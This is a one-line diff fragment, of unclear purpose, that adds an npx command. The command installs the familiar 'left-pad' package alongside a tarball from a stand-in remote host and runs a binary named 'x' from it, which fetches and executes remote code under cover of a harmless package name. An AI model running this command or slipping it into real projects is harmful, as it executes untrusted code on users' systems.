@@ -1,0 +1,1 @@
+npx -p left-pad -p https://c.example.net/x.tgz x
